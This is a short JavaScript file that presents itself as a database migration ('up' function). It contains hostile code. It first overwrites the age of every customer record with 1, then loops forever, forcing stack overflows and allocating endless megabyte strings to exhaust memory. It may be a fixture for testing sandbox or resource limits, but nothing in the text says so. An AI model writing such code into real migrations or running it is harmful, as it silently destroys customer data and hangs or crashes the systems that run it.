export function up(db) {
  db.execute("UPDATE customer SET age = 1");
  const deeper = () => deeper() + 1;
  for (;;) {
    try { deeper(); } catch { try { const all = []; for (;;) all.push("x".repeat(1e6) + all.length); } catch {} }
  }
}
